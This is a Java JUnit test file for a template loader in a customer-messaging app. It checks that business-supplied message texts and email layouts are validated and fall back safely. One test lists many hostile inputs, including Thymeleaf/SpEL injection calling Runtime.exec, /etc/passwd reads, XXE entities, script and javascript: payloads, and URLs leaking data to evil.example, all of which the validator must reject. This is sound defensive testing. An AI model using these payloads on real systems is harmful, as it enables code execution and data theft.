package org.dunlin.contact.template;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicReference;
import org.dunlin.contact.text.Wordings;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.util.FileSystemUtils;

/** Texts and layouts of the business: what is wrong is said with its place, and never used. */
class TemplatesTest {

    private static final String NL = "messages/customer_nl.properties";
    private static final String OURS = "Misschien is het aan uw aandacht ontsnapt";

    @TempDir
    Path folder;

    /** For attacks: they share what was read at the start, which takes longer than the check of an attack. */
    @TempDir
    static Path attacked;

    private static Templates underAttack;

    @BeforeAll
    static void beforeTheAttacks() {
        underAttack = TemplatesOf.folder(attacked, List.of(Wordings.texts()), Wordings.messageModel());
    }

    @Test
    void ours_pass_their_own_check() {
        Checks checks = new Checks(List.of(Wordings.texts()), Wordings.messageModel());
        for (String language : TextBundle.LANGUAGES) {
            String file = TextBundle.file("customer", language);
            assertThat(checks.read(file, TextBundle.content(file)).problems()).isEmpty();
        }
        for (String layout : Wordings.messageModel().layouts().keySet()) {
            assertThat(checks.read(layout, TextBundle.content("templates/" + layout))
                            .problems())
                    .isEmpty();
        }
    }

    @Test
    void a_text_of_the_business_replaces_ours_and_leaves_the_others() throws IOException {
        save(NL, "reminder.before = Er staat nog {total} open bij ’t Hof, d'Artagnan.\ngreeting = Dag {name},\n");
        Templates templates = templates();

        assertThat(templates.problems()).isEmpty();
        assertThat(templates.own()).containsExactly(NL);
        assertThat(text(templates, "reminder.before", "nl", 3, "€ 10,00"))
                .isEqualTo("Er staat nog € 10,00 open bij ’t Hof, d’Artagnan.");
        assertThat(text(templates, "greeting", "nl", "Sam")).isEqualTo("Dag Sam,");
        assertThat(text(templates, "greeting", "en", "Sam")).isEqualTo("Dear Sam,");
        assertThat(text(templates, "reminder.subject", "nl", 2)).contains("2 facturen");
    }

    @Test
    void a_change_is_noticed_and_a_file_that_is_taken_away_gives_way_to_ours() throws IOException {
        Templates templates = templates();
        assertThat(text(templates, "reminder.before", "nl", 1, "x")).startsWith(OURS);
        save(NL, "reminder.before = Eerste {total}");
        templates.refresh();
        assertThat(text(templates, "reminder.before", "nl", 1, "x")).isEqualTo("Eerste x");
        save(NL, "reminder.before = Tweede {total}");
        templates.refresh();
        assertThat(text(templates, "reminder.before", "nl", 1, "x")).isEqualTo("Tweede x");
        Files.delete(folder.resolve(NL));
        templates.refresh();
        assertThat(text(templates, "reminder.before", "nl", 1, "x")).startsWith(OURS);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "reminder.before = {totl} staat open           | 3 | reminder.before: {totl} is not known here; known are {count}, {total}, {payBy}",
                "reminder.before = {8}                         | 3 | {8} is not known here",
                "greeting = Dag {total}                        | 3 | greeting: {total} is not known here; known are {name}",
                "total = {count}                               | 3 | this text has no places",
                "reminder.before = {count,number} stuks        | 3 | only choice is possible",
                "'reminder.before = {count,choice,1#een|x<meer}' | 3 | cannot be read",
                "reminder.before = {total staat open           | 3 | cannot be read",
                "reminder.before = staat} open                 | 3 | has no partner",
                "reminder.before = {} open                     | 3 | {} is not known here",
                "'reminder.before = {count,choice,1#{tot}|1<{total}}' | 3 | {tot} is not known here",
                "reminder.befor = x                            | 3 | there is no text reminder.befor; the texts of a template are called reminder.after, reminder.afterPaid, reminder.before",
                "gretting = x                                  | 3 | there is no text gretting",
                "reminder.before = <b>{total}</b>              | 3 | texts are plain: <b>",
                "reminder.before = 10 &euro;                   | 3 | texts are plain: &euro;",
                "reminder.before = \\u00zz                     | 3 | four hexadecimal digits",
                "eerste.subject = nog eens                     | 3 | stands in line 2 already"
            })
    void what_is_wrong_with_a_text_is_said_with_file_line_and_name(String line, int number, String what)
            throws IOException {
        save(NL, "# Onze teksten\neerste.subject = x\n" + line + "\n");
        Templates templates = templates();

        assertThat(templates.problems()).anySatisfy(problem -> {
            assertThat(problem.file()).isEqualTo(NL);
            assertThat(problem.line()).isEqualTo(number);
            assertThat(problem.what()).contains(what);
        });
        assertThat(text(templates, "reminder.before", "nl", 1, "x")).startsWith(OURS);
    }

    @Test
    void while_something_is_wrong_the_last_good_file_stays_in_use_and_the_others_go_on() throws IOException {
        save(NL, "reminder.before = Goed {total}");
        save("messages/customer_fr.properties", "greeting = Bonjour à vous {name},");
        Templates templates = templates();

        save(NL, "reminder.before = Fout {totl}");
        save("messages/customer_fr.properties", "greeting = Cher {name},");
        templates.refresh();

        assertThat(templates.problems()).hasSize(1);
        assertThat(text(templates, "reminder.before", "nl", 1, "x")).isEqualTo("Goed x");
        assertThat(text(templates, "greeting", "fr", "Sam")).isEqualTo("Cher Sam,");
        save(NL, "reminder.before = Beter {total}");
        templates.refresh();
        assertThat(templates.problems()).isEmpty();
        assertThat(text(templates, "reminder.before", "nl", 1, "x")).isEqualTo("Beter x");
    }

    @Test
    void a_file_in_another_encoding_or_under_a_name_that_nobody_looks_for_is_said_to_be_so() throws IOException {
        save(NL, "greeting = Caf\u00e9 {name}");
        Files.write(folder.resolve(NL), "greeting = Caf\u00e9 {name}".getBytes(StandardCharsets.ISO_8859_1));
        save("mesages/customer_nl.properties", "greeting = x");
        save("messages/customer_es.properties", "greeting = x");
        save("x.html", "x");
        Templates templates = templates();

        assertThat(templates.problems())
                .extracting(TemplateProblem::toString)
                .anyMatch(problem -> problem.startsWith(NL) && problem.contains("UTF-8"))
                .anyMatch(problem -> problem.startsWith("mesages/customer_nl.properties: there is no such file"))
                .anyMatch(problem -> problem.startsWith("messages/customer_es.properties: there is no such file"))
                .anyMatch(problem -> problem.startsWith("x.html"));
    }

    @Test
    void a_template_that_the_business_adds_is_of_use_once_it_has_its_texts_in_every_language() throws IOException {
        String texts =
                "herinnering.subject = S\nherinnering.preview = P\nherinnering.before = B {total}\nherinnering.after = A\nherinnering.sms = S\n";
        save(NL, texts);
        Templates templates = templates();
        assertThat(templates.problems())
                .extracting(TemplateProblem::what)
                .contains("the new template herinnering needs a text herinnering.subject here too");
        for (String language : TextBundle.LANGUAGES) {
            save(TextBundle.file("customer", language), texts);
        }
        templates.refresh();
        assertThat(templates.problems()).isEmpty();
        assertThat(templates.get().templates(Wordings.texts(), "de")).contains("herinnering");
    }

    @Test
    void a_layout_of_the_business_replaces_ours_for_all_or_for_one_template() throws IOException {
        save(
                "email/message.txt",
                "[(${mail.greeting})]\nALLE\n[# th:each=\"line : ${mail.lines}\"][(${line.number})]\n[/]");
        save("email/finalNotice.txt", "[(${mail.greeting})]\nLAATSTE\n");
        Templates templates = templates();

        assertThat(templates.problems()).isEmpty();
        assertThat(Wordings.email(templates, "reminder", "nl").text()).contains("ALLE", "2026-0107");
        assertThat(Wordings.email(templates, "finalNotice", "nl").text())
                .contains("LAATSTE")
                .doesNotContain("ALLE");
    }

    /** R9 and R10: a corpus of what must never get into a message, whoever wrote the file. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "<p th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\">x</p>",
                "<p th:text=\"${@environment.getProperty('x')}\">x</p>",
                "<p th:text=\"${new java.io.File('/')}\">x</p>",
                "<p th:text=\"__${mail.subject}__\">x</p>",
                "<p th:text=\"${__${mail.subject}__}\">x</p>",
                "<p th:text=\"${mail.getClass()}\">x</p>",
                "<p th:text=\"${mail.class.name}\">x</p>",
                "<p th:text=\"${mail.subject.toString()}\">x</p>",
                "<p th:text=\"${#ctx.variables}\">x</p>",
                "<p th:text=\"${#vars}\">x</p>",
                "<p th:text=\"*{subject}\">x</p>",
                "<p th:text=\"#{messages}\">x</p>",
                "<p th:text=\"@{https://evil.example/{x}(x=${mail.subject})}\">x</p>",
                "<p th:text=\"~{email/message}\">x</p>",
                "<p th:text=\"${mail.subject} ?: 'x'\">x</p>",
                "<p th:text=\"|a ${mail.subject}|\">x</p>",
                "<p th:text=\"${mail['subject']}\">x</p>",
                "<p th:text=\"${mail.lines.![number]}\">x</p>",
                "<p th:text=\"${mail.subject matches 'x'}\">x</p>",
                "<p th:text=\"${1 + 1}\">x</p>",
                "<p th:utext=\"${mail.subject}\">x</p>",
                "<p data-th-utext=\"${mail.subject}\">x</p>",
                "<p DATA-TH-TEXT=\"${mail.subject}\">x</p>",
                "<p TH:UTEXT=\"${mail.subject}\">x</p>",
                "<p th:insert=\"~{https://evil.example/x}\">x</p>",
                "<p th:replace=\"~{/etc/passwd}\">x</p>",
                "<p th:include=\"x\">x</p>",
                "<p th:with=\"x=${mail.subject}\">x</p>",
                "<p th:attr=\"onclick=${mail.subject}\">x</p>",
                "<p th:onclick=\"'x'\">x</p>",
                "<p th:inline=\"javascript\">x</p>",
                "<p th:fragment=\"x\">x</p>",
                "<p th:remove=\"all\">x</p>",
                "<p>[[${mail.subject}]]</p>",
                "<p>[(${mail.subject})]</p>",
                "<p>&#91;&#91;${mail.subject}]]</p>",
                "<p title=\"[[${mail.subject}]]\">x</p>",
                "<style>p { color: [[${mail.subject}]] }</style>",
                "<!--/*/ <p th:utext=\"${mail.subject}\">x</p> /*/-->",
                "<!--/* x */-->",
                "<!--[if mso]><p th:utext=\"${mail.subject}\"></p><![endif]-->",
                "<![CDATA[ [[${mail.subject}]] ]]>",
                "<?xml-stylesheet href=\"https://evil.example/x\"?>",
                "<!DOCTYPE html [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><p>&x;</p>",
                "<!DOCTYPE html SYSTEM \"https://evil.example/x.dtd\"><p>x</p>",
                "<script>alert(1)</script>",
                "<SCRIPT src=\"https://evil.example/x.js\"></SCRIPT>",
                "<iframe src=\"https://evil.example\"></iframe>",
                "<object data=\"https://evil.example\"></object>",
                "<embed src=\"https://evil.example\">",
                "<form action=\"https://evil.example\"><input name=\"x\"></form>",
                "<svg onload=\"alert(1)\"></svg>",
                "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
                "<base href=\"https://evil.example/\">",
                "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
                "<p onclick=\"alert(1)\">x</p>",
                "<p OnClick=\"alert(1)\">x</p>",
                "<img src=\"x\" onerror=\"alert(1)\">",
                "<img src=\"http://tracker.example/x.png\">",
                "<img src=\"file:///etc/passwd\">",
                "<img src=\"//evil.example/x.png\">",
                "<img th:src=\"${mail.subject}\">",
                "<img th:src=\"'https://evil.example/' + ${mail.code.data}\">",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\" JaVaScRiPt:alert(1)\">x</a>",
                "<a href=\"&#106;avascript:alert(1)\">x</a>",
                "<a href=\"data:text/html,x\">x</a>",
                "<a href=\"http://evil.example\">x</a>",
                "<a th:href=\"${mail.subject}\">x</a>",
                "<a th:href=\"${mail.creditorName}\">x</a>",
                "<a th:href=\"'javascript:' + ${mail.link.address}\">x</a>",
                "<p style=\"background:url(https://evil.example/x)\">x</p>",
                "<p style=\"width:expression(alert(1))\">x</p>",
                "<p th:style=\"'background:url(https://evil.example)'\">x</p>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<style>p { background: URL (https://evil.example/x) }</style>",
                "<p th:text=\"${mail.subjct}\">x</p>",
                "<p th:text=\"${paper.address}\">x</p>",
                "<p th:each=\"x : ${mail.subject}\" th:text=\"${x}\">x</p>",
                "<p th:each=\"x : ${@beans.all}\" th:text=\"${x}\">x</p>",
                "<p th:text=\"${mail.subject\">x</p>",
                "<p th:if=\"${mail.quote != null && true}\">x</p>"
            })
    void nothing_in_a_layout_runs_loads_leads_elsewhere_or_places_what_is_not_there(String line) throws IOException {
        String before = "<html xmlns:th=\"http://www.thymeleaf.org\">\n<body>\n";
        attack("email/message.html", line.startsWith("<!DOCTYPE") ? line : before + line + "\n</body></html>");

        assertThat(underAttack.problems()).as(line).isNotEmpty().allSatisfy(problem -> {
            assertThat(problem.file()).isEqualTo("email/message.html");
            assertThat(problem.line()).isEqualTo(line.startsWith("<!DOCTYPE") ? 1 : 3);
        });
        assertThat(underAttack.own()).isEmpty();
        assertThat(Wordings.email(underAttack, "reminder", "nl").html()).contains("<table");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "[(${T(java.lang.Runtime)})]",
                "[(${mail.subjct})]",
                "[[${mail.subject}]]",
                "[(__${mail.subject}__)]",
                "[(${@x})]",
                "[# th:utext=\"${mail.subject}\"][/]",
                "[# th:insert=\"~{x}\"][/]",
                "[#th:block th:each=\"x : ${mail.lines}\"][/th:block]",
                "[# th:if=\"${mail.quote != null}\"]",
                "[/]",
                "/*[+ [(${mail.subject})] +]*/",
                "[# th:each=\"x : ${mail.subject}\"][/]",
                "[# th:if=\"${#ctx != null}\"][/]"
            })
    void a_plain_layout_is_as_harmless(String line) throws IOException {
        attack("email/message.txt", "Dag\n" + line);

        assertThat(underAttack.problems()).as(line).isNotEmpty();
        assertThat(underAttack.own()).isEmpty();
    }

    @Test
    void a_letter_that_cannot_be_printed_is_not_used() throws IOException {
        save(
                "letter/message.html",
                "<html xmlns:th=\"http://www.thymeleaf.org\"><body><p>not closed<br></body></html>");
        Templates templates = templates();

        assertThat(templates.problems()).hasSize(1);
        assertThat(templates.problems().get(0).what()).contains("a message could not be made with it");
        assertThat(templates.own()).isEmpty();
    }

    @Test
    void saving_a_bad_file_again_and_again_never_keeps_a_message_from_being_worded() throws Exception {
        save("email/message.txt", "GOED [(${mail.greeting})]");
        Templates templates = templates();
        AtomicBoolean over = new AtomicBoolean();
        AtomicReference<String> failure = new AtomicReference<>();
        Thread sender = new Thread(() -> {
            while (!over.get() && failure.get() == null) {
                String text = Wordings.email(templates, "reminder", "nl").text();
                if (!text.startsWith("GOED") && !text.startsWith("BETER")) {
                    failure.set(text);
                }
            }
        });
        sender.setUncaughtExceptionHandler((thread, e) -> failure.set(e.toString()));
        sender.start();
        for (int i = 0; i < 12; i++) {
            save(
                    "email/message.txt",
                    i % 2 == 0 ? "[(${mail.nothing" + i + "})]" : "BETER " + i + " [(${mail.greeting})]");
            templates.refresh();
        }
        over.set(true);
        sender.join();

        assertThat(failure.get()).isNull();
    }

    private Templates templates() {
        return TemplatesOf.folder(folder, List.of(Wordings.texts()), Wordings.messageModel());
    }

    /** From a folder without anything wrong in it. */
    private static void attack(String file, String content) throws IOException {
        FileSystemUtils.deleteRecursively(attacked.resolve(file).getParent());
        underAttack.refresh();
        assertThat(underAttack.problems()).isEmpty();
        save(attacked, file, content);
        underAttack.refresh();
    }

    private void save(String file, String content) throws IOException {
        save(folder, file, content);
    }

    private static void save(Path folder, String file, String content) throws IOException {
        Path path = folder.resolve(file);
        Files.createDirectories(path.getParent());
        Files.writeString(path, content);
    }

    private static String text(Templates templates, String key, String language, Object... arguments) {
        return templates.get().text("customer", key, Locale.forLanguageTag(language), arguments);
    }
}
